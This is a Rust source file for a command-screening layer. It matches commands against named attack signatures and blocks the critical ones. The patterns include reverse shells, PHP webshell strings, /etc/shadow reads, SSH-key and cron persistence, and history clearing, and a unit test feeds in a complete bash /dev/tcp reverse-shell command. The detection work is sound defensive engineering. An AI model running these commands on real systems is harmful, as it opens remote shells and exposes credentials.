// Named attack-technique signatures feeding L0 severity judgement.
//
// Supplements the bare scanner-tool substring list from spec.md §4.9 with
// named, categorized command-pattern signatures — the command-side analogue
// of what the predecessor's `ThreatLibrary` tracked. Only `Critical`
// severity becomes a `Blocked` verdict (spec.md §4.6 L0); everything else
// logs and proceeds.

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Medium,
    High,
    Critical,
}

pub struct Signature {
    pub id: &'static str,
    pub category: &'static str,
    pub severity: Severity,
    pub indicators: &'static [&'static str],
}

pub struct SignatureLibrary {
    signatures: Vec<Signature>,
}

impl SignatureLibrary {
    pub fn new() -> Self {
        Self {
            signatures: default_signatures(),
        }
    }

    /// First signature whose indicator substring-matches `command`, if any.
    pub fn match_command(&self, command: &str) -> Option<&Signature> {
        self.signatures
            .iter()
            .find(|sig| sig.indicators.iter().any(|ind| command.contains(ind)))
    }
}

impl Default for SignatureLibrary {
    fn default() -> Self {
        Self::new()
    }
}

fn default_signatures() -> Vec<Signature> {
    vec![
        Signature {
            id: "reverse_shell_bash",
            category: "execution",
            severity: Severity::Critical,
            indicators: &["bash -i >& /dev/tcp/", "sh -i >& /dev/tcp/"],
        },
        Signature {
            id: "reverse_shell_netcat",
            category: "execution",
            severity: Severity::Critical,
            indicators: &["nc -e /bin/bash", "nc -e /bin/sh", "netcat -e /bin/bash"],
        },
        Signature {
            id: "python_reverse_shell",
            category: "execution",
            severity: Severity::Critical,
            indicators: &["python -c 'import socket", "python3 -c 'import socket"],
        },
        Signature {
            id: "webshell_upload",
            category: "persistence",
            severity: Severity::Critical,
            indicators: &["<?php system(", "<?php shell_exec("],
        },
        Signature {
            id: "suid_enumeration",
            category: "privilege_escalation",
            severity: Severity::High,
            indicators: &["find / -perm -4000", "find / -perm -u=s"],
        },
        Signature {
            id: "passwd_shadow_dump",
            category: "credential_access",
            severity: Severity::High,
            indicators: &["cat /etc/shadow", "cat /etc/passwd"],
        },
        Signature {
            id: "ssh_key_persistence",
            category: "persistence",
            severity: Severity::High,
            indicators: &["authorized_keys", "echo ssh-rsa"],
        },
        Signature {
            id: "cron_persistence",
            category: "persistence",
            severity: Severity::High,
            indicators: &["crontab -e", "echo * * * * *"],
        },
        Signature {
            id: "linpeas_enum",
            category: "reconnaissance",
            severity: Severity::High,
            indicators: &["linpeas", "linenum.sh"],
        },
        Signature {
            id: "history_clearing",
            category: "defense_evasion",
            severity: Severity::Medium,
            indicators: &["history -c", "rm ~/.bash_history"],
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matches_critical_reverse_shell() {
        let lib = SignatureLibrary::new();
        let sig = lib.match_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").unwrap();
        assert_eq!(sig.id, "reverse_shell_bash");
        assert_eq!(sig.severity, Severity::Critical);
    }

    #[test]
    fn no_match_for_benign_command() {
        let lib = SignatureLibrary::new();
        assert!(lib.match_command("ls -la").is_none());
    }

    #[test]
    fn severity_ordering_puts_critical_highest() {
        assert!(Severity::Critical > Severity::High);
        assert!(Severity::High > Severity::Medium);
    }
}
